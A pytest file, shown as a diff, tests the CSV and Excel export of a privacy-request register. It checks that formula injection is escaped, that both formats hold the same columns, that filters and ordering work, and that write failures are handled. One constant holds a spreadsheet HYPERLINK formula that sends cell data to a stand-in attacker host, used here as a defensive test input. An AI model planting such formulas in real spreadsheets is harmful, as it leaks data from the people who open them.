@@ -1,0 +1,90 @@
+"""The register leaves the program as CSV or Excel with the same columns, and never as a trap."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from privacydesk.core.workflow import Status
+from privacydesk.services import Services
+from privacydesk.services.export import HEADER, ExportError, ExportFormat
+from tests.services.helpers import new_request
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+
+
+def test_a_formula_typed_as_a_name_is_plain_text_in_both_exports(
+    services: Services, tmp_path: Path
+) -> None:
+    services.cases.register(new_request(EVIL))
+    services.cases.register(new_request("@SUM(1+1)", received=date(2026, 11, 21)))
+    services.export.write(tmp_path / "r.csv", ExportFormat.CSV)
+    services.export.write(tmp_path / "r.xlsx", ExportFormat.XLSX)
+
+    rows = _csv_rows(tmp_path / "r.csv")
+    names = {r[1] for r in rows[1:]}
+    assert names == {"'" + EVIL, "'@SUM(1+1)"}
+
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    cells = [sheet.cell(row=r, column=2) for r in (2, 3)]
+    assert {c.value for c in cells} == {EVIL, "@SUM(1+1)"}  # the name as typed …
+    assert all(c.data_type == "s" for c in cells)  # … stored as text, not as a formula
+
+
+def test_csv_and_excel_hold_the_same_columns_and_values(services: Services, tmp_path: Path) -> None:
+    case = services.cases.register(new_request("Noël Lemaître"))
+    services.cases.change_status(case.id, Status.WITHDRAWN)
+    services.export.write(tmp_path / "r.csv", ExportFormat.CSV)
+    services.export.write(tmp_path / "r.xlsx", ExportFormat.XLSX)
+    rows = _csv_rows(tmp_path / "r.csv")
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    xlsx_rows = [
+        ["" if v is None else v.date().isoformat() if hasattr(v, "date") else v for v in row]
+        for row in sheet.iter_rows(values_only=True)
+    ]
+    assert rows[0] == list(HEADER) == xlsx_rows[0]
+    assert rows[1] == xlsx_rows[1]
+    assert rows[1][:5] == [
+        "PD-2026-0001",
+        "Noël Lemaître",
+        "Recht op inzage",
+        "E-mail",
+        "2026-11-20",
+    ]
+    assert rows[1][8:] == ["Geen antwoord nodig", "Ingetrokken", ""]
+
+
+def test_the_current_filter_exports_only_its_cases_in_the_order_shown(
+    services: Services,
+) -> None:
+    first = services.cases.register(new_request("Jan Peeters"))
+    services.cases.register(new_request("Lieve De Smet"))
+    third = services.cases.register(new_request("Zoë Willems"))
+    table = services.export.table([third.id, first.id])
+    assert [row[1] for row in table.rows] == ["Zoë Willems", "Jan Peeters"]
+    assert [row[0] for row in services.export.table().rows] == [
+        "PD-2026-0001",
+        "PD-2026-0002",
+        "PD-2026-0003",
+    ]
+
+
+def test_an_export_that_cannot_be_written_leaves_no_file_and_says_why(
+    services: Services, tmp_path: Path
+) -> None:
+    services.cases.register(new_request())
+    target = tmp_path / "missing" / "r.xlsx"
+    with pytest.raises(ExportError, match="kan niet geschreven worden"):
+        services.export.write(target, ExportFormat.XLSX)
+    assert not target.parent.exists()
